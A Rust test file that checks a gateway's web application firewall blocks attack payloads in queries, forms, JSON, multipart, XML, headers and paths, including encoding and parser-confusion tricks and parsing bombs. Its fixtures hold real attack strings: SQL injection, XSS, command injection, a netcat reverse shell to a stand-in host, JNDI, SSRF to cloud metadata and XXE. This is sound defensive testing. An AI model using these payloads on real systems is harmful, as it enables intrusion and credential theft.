//! The built-in rules over real HTTP, and encodings that parsers read differently. What cannot be parsed is refused.

use std::fmt::Write as _;

use crate::support::raw::{get, post};
use crate::support::{Gateway, Origin, Plan, exchange};

fn start(origin: &Origin) -> Gateway {
    Gateway::start(
        &Plan::new(origin.address)
            .check("scan", "{check: waf, rules: [waf/*.yaml]}")
            .route("{name: all, match: {path: \"/*\"}, to: app, use: [scan], public: test}")
            .rules(),
    )
}

fn encode(text: &str) -> String {
    text.bytes().fold(String::new(), |mut out, byte| {
        if byte.is_ascii_alphanumeric() {
            out.push(byte as char);
        } else {
            write!(out, "%{byte:02X}").unwrap();
        }
        out
    })
}

const ATTACKS: &[(&str, &str)] = &[
    ("sql", "1' UNION SELECT username, password FROM users-- -"),
    ("sql tautology", "' OR '1'='1"),
    ("sql stacked", "1; DROP TABLE users--"),
    ("sql blind", "1 AND SLEEP(5)"),
    ("xss", "<script>alert(document.cookie)</script>"),
    ("xss handler", "<img src=x onerror=alert(1)>"),
    ("xss scheme", "javascript:alert(1)"),
    ("traversal", "../../../../etc/passwd"),
    ("traversal windows", "..\\..\\windows\\win.ini"),
    ("remote file", "http://evil.test/shell.txt?"),
    ("command", "; cat /etc/passwd"),
    ("command substitution", "$(id)"),
    ("pipe", "| nc -e /bin/sh evil.test 4444"),
    (
        "template",
        "{{7*7}}{{config.__class__.__init__.__globals__}}",
    ),
    ("expression", "${jndi:ldap://evil.test/a}"),
    ("nosql", "{\"$ne\": null, \"$where\": \"sleep(1)\"}"),
    ("metadata", "http://169.254.169.254/latest/meta-data/"),
];

const HARMLESS: &[&str] = &[
    "hello world",
    "O'Brien",
    "it's 5 o'clock and I'd like to select a table from the union square cafe",
    "a < b and c > d",
    "drop me a line; thanks",
    "select",
    "1 or 2 items",
    "Dr. Smith & Sons -- since 1999",
    "50% off!",
    "user@example.test",
    "日本語のテキスト",
    "price: $20 (or 18 EUR)",
    "C:\\Users\\me\\file.txt",
    "the script was great",
    "2024-01-01T00:00:00Z",
    "#hashtag",
    "x=y&z",
];

#[test]
fn attacks_are_refused_wherever_they_hide() {
    let origin = Origin::start();
    let gateway = start(&origin);
    let mut missed = Vec::new();
    for (name, attack) in ATTACKS {
        let encoded = encode(attack);
        let json = serde_json::json!({"a": {"b": ["x", attack]}}).to_string();
        let boundary = format!(
            "--B\r\nContent-Disposition: form-data; name=\"f\"\r\n\r\n{attack}\r\n--B--\r\n"
        );
        let xml = format!(
            "<r><v>{}</v></r>",
            attack.replace('&', "&amp;").replace('<', "&lt;")
        );
        for (place, request) in [
            ("query", get(&format!("/s?q={encoded}"), "").into_bytes()),
            (
                "form",
                post(
                    "/s",
                    "Content-Type: application/x-www-form-urlencoded\r\n",
                    format!("q={encoded}").as_bytes(),
                ),
            ),
            (
                "json",
                post("/s", "Content-Type: application/json\r\n", json.as_bytes()),
            ),
            (
                "multipart",
                post(
                    "/s",
                    "Content-Type: multipart/form-data; boundary=B\r\n",
                    boundary.as_bytes(),
                ),
            ),
            (
                "xml",
                post("/s", "Content-Type: application/xml\r\n", xml.as_bytes()),
            ),
        ] {
            let status = exchange(gateway.http, request).status;
            if status != 403 {
                missed.push(format!("{name} in {place}: {status}"));
            }
        }
    }
    assert!(
        missed.is_empty(),
        "{} missed\n{}",
        missed.len(),
        missed.join("\n")
    );
    assert_eq!(origin.count(), 0);
}

#[test]
fn harmless_text_passes_everywhere() {
    let origin = Origin::start();
    let gateway = start(&origin);
    let browser = "User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0\r\nAccept: text/html,application/xhtml+xml\r\nAccept-Language: en-US,en;q=0.5\r\n";
    let mut wrong = Vec::new();
    for text in HARMLESS {
        let encoded = encode(text);
        let json = serde_json::json!({"comment": text}).to_string();
        for (place, request) in [
            (
                "query",
                get(&format!("/s?q={encoded}"), browser).into_bytes(),
            ),
            (
                "form",
                post(
                    "/s",
                    &format!("{browser}Content-Type: application/x-www-form-urlencoded\r\n"),
                    format!("q={encoded}").as_bytes(),
                ),
            ),
            (
                "json",
                post(
                    "/s",
                    &format!("{browser}Content-Type: application/json\r\n"),
                    json.as_bytes(),
                ),
            ),
        ] {
            let id = format!("h-{}", wrong.len() * 1000 + origin.count());
            let mut request = request;
            let at = crate::support::raw::find(&request, b"\r\n").unwrap() + 2;
            request.splice(at..at, format!("X-Request-ID: {id}\r\n").into_bytes());
            let status = exchange(gateway.http, request).status;
            if status != 200 {
                wrong.push(format!(
                    "{text:?} in {place}: {status} {}",
                    gateway.event(&id)["rules"]
                ));
            }
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn headers_cookies_and_paths_are_scanned() {
    let origin = Origin::start();
    let gateway = start(&origin);
    for (path, fields) in [
        (
            "/",
            "Cookie: a=1' UNION SELECT password FROM users-- -\r\n".to_owned(),
        ),
        ("/", "User-Agent: sqlmap/1.7\r\n".to_owned()),
        (
            "/",
            "Referer: http://x.test/?q=<script>alert(1)</script>\r\n".to_owned(),
        ),
        ("/.git/config", String::new()),
        ("/%3Cscript%3Ealert(1)%3C/script%3E", String::new()),
        (
            "/",
            "X-Api-Version: ${jndi:ldap://evil.test/a}\r\n".to_owned(),
        ),
    ] {
        assert_eq!(
            exchange(gateway.http, get(path, &fields)).status,
            403,
            "{path} {fields}"
        );
    }
    assert_eq!(origin.count(), 0);
}

#[test]
fn encodings_do_not_hide_an_attack() {
    let origin = Origin::start();
    let gateway = start(&origin);
    let twice = encode(&encode("<script>alert(1)</script>"));
    for query in [
        twice.as_str(),
        "%u003cscript%u003ealert(1)%u003c/script%u003e",
        "1%27/**/UNION/**/SELECT/**/password/**/FROM/**/users--",
        "1'%0aUnIoN%0dSeLeCt%09password%0aFrOm%0ausers--",
        "1%2527%2520UNION%2520SELECT%2520password%2520FROM%2520users",
        "%26lt%3Bscript%26gt%3Balert(1)%26lt%3B/script%26gt%3B<script>",
        "a&q=<ScRiPt%20>alert(1)</sCrIpT>",
        "..%252f..%252f..%252fetc%252fpasswd",
        "..%c0%af..%c0%afetc/passwd",
    ] {
        let status = exchange(gateway.http, get(&format!("/s?q={query}"), "")).status;
        assert!(matches!(status, 400 | 403), "{query}: {status}");
    }
    assert_eq!(origin.count(), 0);
}

/// What two parsers read differently, or ours cannot read, never arrives with its attack.
#[test]
fn bodies_that_parsers_read_differently_are_refused() {
    let origin = Origin::start();
    let gateway = start(&origin);
    let attack = "1' UNION SELECT password FROM users-- -";
    let part = |boundary: &str| {
        format!(
            "--{boundary}\r\nContent-Disposition: form-data; name=\"f\"\r\n\r\n{attack}\r\n--{boundary}--\r\n"
        )
    };
    let utf16: Vec<u8> = format!("q={attack}")
        .encode_utf16()
        .flat_map(u16::to_be_bytes)
        .collect();
    let gzip = [
        0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3, 0x2b, 0xb4, 0x2d, 0x4e, 0xcd, 0x49, 0x4d, 0x2e, 0x01,
        0, 0x9b, 0x5d, 0x37, 0x9c, 8, 0, 0, 0,
    ];
    let cases: Vec<(&str, String, Vec<u8>)> = vec![
        (
            "RFC 2231 boundary",
            "Content-Type: multipart/form-data; boundary*0=A; boundary*1=B\r\n".into(),
            part("AB").into(),
        ),
        (
            "two boundaries",
            "Content-Type: multipart/form-data; boundary=A; boundary=B\r\n".into(),
            part("B").into(),
        ),
        (
            "two Content-Types",
            "Content-Type: text/plain\r\nContent-Type: application/x-www-form-urlencoded\r\n"
                .into(),
            format!("q={}", encode(attack)).into(),
        ),
        (
            "Content-Type list",
            "Content-Type: text/plain, application/x-www-form-urlencoded\r\n".into(),
            format!("q={}", encode(attack)).into(),
        ),
        (
            "charset UTF-16",
            "Content-Type: application/x-www-form-urlencoded; charset=utf-16be\r\n".into(),
            utf16,
        ),
        (
            "charset UTF-7",
            "Content-Type: application/x-www-form-urlencoded; charset=utf-7\r\n".into(),
            b"q=+ADw-script+AD4-alert(1)+ADw-/script+AD4-".to_vec(),
        ),
        (
            "charset IBM037",
            "Content-Type: application/x-www-form-urlencoded; charset=ibm037\r\n".into(),
            vec![0x98, 0x7e, 0x4c, 0xa2],
        ),
        (
            "JSON duplicate keys",
            "Content-Type: application/json\r\n".into(),
            format!("{{\"q\": \"{attack}\", \"q\": \"ok\"}}").into(),
        ),
        (
            "JSON broken",
            "Content-Type: application/json\r\n".into(),
            format!("{{\"q\": \"{attack}\"").into(),
        ),
        (
            "JSON escapes",
            "Content-Type: application/json\r\n".into(),
            br#"{"q": "1\u0027 UNION SELECT password FROM users-- -"}"#.to_vec(),
        ),
        (
            "gzip",
            "Content-Type: application/x-www-form-urlencoded\r\nContent-Encoding: gzip\r\n".into(),
            gzip.to_vec(),
        ),
        (
            "multipart with LF only",
            "Content-Type: multipart/form-data; boundary=B\r\n".into(),
            part("B").replace("\r\n", "\n").into(),
        ),
        (
            "multipart without end",
            "Content-Type: multipart/form-data; boundary=B\r\n".into(),
            part("B").replace("--B--", "").into(),
        ),
        (
            "multipart without boundary",
            "Content-Type: multipart/form-data\r\n".into(),
            part("B").into(),
        ),
        (
            "multipart in a preamble",
            "Content-Type: multipart/form-data; boundary=B\r\n".into(),
            format!("{attack}\r\n{}", part("B")).into(),
        ),
        (
            "XML entity",
            "Content-Type: application/xml\r\n".into(),
            b"<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>".to_vec(),
        ),
        (
            "XML broken",
            "Content-Type: application/xml\r\n".into(),
            format!("<r>{attack}").into(),
        ),
        (
            "JSON called text",
            "Content-Type: text/plain\r\n".into(),
            format!("{{\"q\": \"{attack}\"}}").into(),
        ),
        (
            "form without a type",
            String::new(),
            format!("q={}", encode(attack)).into(),
        ),
    ];
    let mut through = Vec::new();
    for (name, fields, body) in &cases {
        let status = exchange(gateway.http, post("/s", fields, body)).status;
        if !matches!(status, 400 | 403 | 415) {
            through.push(format!("{name}: {status}"));
        }
    }
    assert!(through.is_empty(), "{}", through.join("\n"));
    assert_eq!(origin.count(), 0);
}

#[test]
fn bombs_are_refused_in_time() {
    let origin = Origin::start();
    let gateway = start(&origin);
    let json = "Content-Type: application/json\r\n";
    let deep = format!("{}{}", "[".repeat(50_000), "]".repeat(50_000));
    let deep_xml = format!("{}{}", "<a>".repeat(20_000), "</a>".repeat(20_000));
    let laughs = "<!DOCTYPE l [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;\">]><l>&c;</l>";
    let form = (0..100_000)
        .map(|n| format!("a{n}=1"))
        .collect::<Vec<_>>()
        .join("&");
    for (name, request) in [
        ("deep JSON", post("/s", json, deep.as_bytes())),
        (
            "deep XML",
            post(
                "/s",
                "Content-Type: application/xml\r\n",
                deep_xml.as_bytes(),
            ),
        ),
        (
            "billion laughs",
            post("/s", "Content-Type: application/xml\r\n", laughs.as_bytes()),
        ),
        (
            "100,000 parameters",
            post(
                "/s",
                "Content-Type: application/x-www-form-urlencoded\r\n",
                form.as_bytes(),
            ),
        ),
    ] {
        let begun = std::time::Instant::now();
        let status = exchange(gateway.http, request).status;
        assert!(matches!(status, 400 | 403 | 413), "{name}: {status}");
        assert!(
            begun.elapsed() < std::time::Duration::from_secs(15),
            "{name} took {:?}",
            begun.elapsed()
        );
    }
    assert_eq!(origin.count(), 0);
}

#[test]
fn the_event_names_rules_and_score() {
    let origin = Origin::start();
    let gateway = start(&origin);
    let request = get(
        "/s?q=1%27%20UNION%20SELECT%20password%20FROM%20users--%20-",
        "X-Request-ID: sqli\r\n",
    );
    assert_eq!(exchange(gateway.http, request).status, 403);
    let event = gateway.event("sqli");
    assert_eq!(
        (
            event["action"].as_str(),
            event["check"].as_str(),
            event["reason"].as_str()
        ),
        (Some("deny"), Some("scan"), Some("waf_blocked"))
    );
    assert!(event["score"].as_u64().unwrap() > 0);
    let rule = &event["rules"][0];
    assert!(rule["id"].is_string() || rule["id"].is_number());
    assert!(
        rule["target"]
            .as_str()
            .unwrap()
            .to_lowercase()
            .contains('q'),
        "{rule}"
    );
    assert!(
        !event.to_string().contains("password"),
        "the query is not in the event unless asked for"
    );
}

#[test]
fn characters_that_no_target_may_hold_are_scanned_not_just_refused() {
    let origin = Origin::start();
    let gateway = start(&origin);
    let raw = |target: &str| {
        let answer = exchange(
            gateway.http,
            format!("\r\nGET {target} HTTP/1.1\r\nHost: app.test\r\nConnection: close\r\n\r\n"),
        );
        answer.status
    };
    assert_eq!(raw("/search?q=<script>alert(1)</script>"), 403);
    assert_eq!(gateway.refused_for("waf_blocked")["check"], "scan");
    assert_eq!(raw("/<script>alert(document.cookie)</script>"), 403);
    assert_eq!(raw("/search?q=\"running>shoes\"&r=`a<b`"), 200);
    assert_eq!(
        origin.last().target,
        "/search?q=%22running%3Eshoes%22&r=%60a%3Cb%60"
    );
}
